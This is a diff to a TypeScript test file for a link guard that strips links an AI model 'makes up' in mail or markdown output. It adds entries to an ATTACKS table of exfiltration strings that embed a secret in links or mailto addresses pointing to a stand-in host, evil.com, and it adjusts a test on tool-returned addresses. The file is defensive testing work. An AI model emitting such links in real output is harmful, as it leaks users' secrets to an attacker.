@@ -4,7 +4,7 @@ import { Parser } from "htmlparser2";
 import { simpleParser } from "mailparser";
 import MarkdownIt from "markdown-it";
 import { markdownToHtml } from "../../src/mail/markdown.ts";
-import { guardMarkdown, learnFrom, linkGuard, type Trust } from "../../src/routing/links.ts";
+import { guardMarkdown, learnFrom, linkGuard, madeUpLinks, type Trust } from "../../src/routing/links.ts";
 import { mailroom } from "../support/mailroom.ts";
 import { rawMail } from "../support/mails.ts";
 
@@ -125,6 +125,8 @@ const ATTACKS: [name: string, markdown: string][] = [
   ["a known address with a query", `[words](mailto:bob@news.example?body=${SECRET}&bcc=eve@evil.com)`],
   ["two addresses in one", `[words](mailto:bob@news.example,${SECRET}@evil.com)`],
   ["a link directly behind another", `https://news.example/b](https://evil.com/${SECRET}`],
+  ["an underscore for a last part", `${SECRET}.evil.com._ ${SECRET}.evil.com._x`],
+  ["letters of another script in front", `を.https://evil.com/${SECRET} を.http:evil.com/${SECRET}`],
   ["letters in front", `xhttps://evil.com/${SECRET} 1https://evil.com/${SECRET}`],
 ];
 test.each(ATTACKS)("the model cannot make up a link: %s", (_name, markdown) => {
@@ -182,14 +184,15 @@ test("an address that the model gave a tool is no better for coming back from it
     deep: [{ "http://a.evil.com/k": "https://news.example/b" }],
   });
   const text = `You asked for https://evil.com/${SECRET}, http://a.evil.com/k and https://news.example/b. See https://tool.example/found.`;
-  learnFrom(trust, { text, args: args.replaceAll("/", "\\/") });
+  learnFrom(trust, { text, made_up: new Set(madeUpLinks(trust, args.replaceAll("/", "\\/"))) });
   const { keeps } = linkGuard(trust);
   expect(keeps(`https://evil.com/${SECRET}`)).toBe(false);
   expect(keeps("http://a.evil.com/k")).toBe(false);
   expect(keeps("https://news.example/b")).toBe(true);
   expect(keeps("https://tool.example/found")).toBe(true);
   const fresh: Trust = { tainted: false, trusted_text: "", material: "" };
-  learnFrom(fresh, { text: "https://tool.example/found", args: "no JSON https://evil.com/x" });
+  expect(madeUpLinks(fresh, "no JSON https://evil.com/x")).toContain("https://evil.com/x");
+  learnFrom(fresh, { text: "https://tool.example/found", made_up: new Set() });
   expect(fresh.tainted).toBe(true);
 });
 
